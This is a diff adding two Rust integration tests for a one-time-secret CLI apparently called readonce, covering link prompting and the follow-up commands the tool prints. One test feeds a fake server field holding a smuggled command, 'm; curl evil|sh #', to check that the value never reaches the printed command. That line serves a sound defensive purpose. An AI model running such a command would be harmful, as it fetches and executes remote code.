@@ -3,6 +3,7 @@
 use crate::fake::{Does, Fake};
 use crate::pty::Pty;
 use crate::support::Cli;
+use readonce_tests::app::TestApp;
 
 const PROMPT: &str = "Secret (one line, not shown): ";
 
@@ -80,4 +81,53 @@ async fn ctrl_c_during_a_call_says_what_may_have_happened_and_leaves_no_file() {
     assert!(code == 130 && seen.contains("may be used up all the same"), "{seen}");
     assert!(!file.exists());
     assert_eq!(fake.requests().len(), 1);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_link_that_is_not_on_the_command_line_is_asked_for_and_its_host_is_named() {
+    let app = TestApp::start().await;
+    let cli = Cli::at(app.origin());
+    let passphrase = cli.write("passphrase", "pass phrase");
+    let host = app.origin().replace("http://", "");
+    for command in ["readonce get", "readonce get -", "readonce get <link"] {
+        let (key, link) = cli.shared_with_key("correct horse", &["--passphrase-file", &passphrase]).await;
+        let copy = Cli::at(app.origin());
+        copy.write("link", format!("{link}\n"));
+        let host = host.clone();
+        tokio::task::spawn_blocking(move || {
+            let mut get = Pty::start(&copy, command);
+            if !command.contains('<') {
+                get.sees("Link or key (not shown): ");
+                get.types(format!("{link}\n"));
+            }
+            get.sees(&format!("Reveal it from {host} now? [y/N] "));
+            get.types("y\n");
+            get.sees(&format!("Passphrase for {host} (not shown; empty to give up): "));
+            get.types("pass phrase\n");
+            let (code, seen) = get.ends();
+            assert!(code == 0 && seen.ends_with("correct horse\r\n") && !seen.contains(&link), "{seen}");
+            let mut receipt = Pty::start(&copy, "readonce receipt");
+            receipt.sees("Link or key (not shown): ");
+            receipt.types(format!("{key}\n"));
+            let (code, seen) = receipt.ends();
+            assert!(code == 0 && seen.contains("State:       read, ") && !seen.contains(&key), "{seen}");
+        })
+        .await
+        .unwrap();
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_commands_to_follow_are_whole_and_hold_nothing_of_a_servers() {
+    for (key, expected) in [("m", true), ("m; curl evil|sh #", false)] {
+        let body = format!("{{\"metadata_key\":\"{key}\",\"secret_key\":\"s\"}}");
+        let fake = Fake::start(&[Does::Answers(200, "", body.leak())]).await;
+        let cli = Cli::new();
+        let line =
+            format!("echo x | readonce share --server {} --insecure-http --config /dev/null", fake.origin);
+        let (code, seen) = tokio::task::spawn_blocking(move || Pty::start(&cli, &line).ends()).await.unwrap();
+        let follows =
+            format!("readonce --config /dev/null --server {} --insecure-http receipt m ", fake.origin);
+        assert!(code == 0 && seen.contains(&follows) == expected && !seen.contains("evil"), "{seen}");
+    }
 }
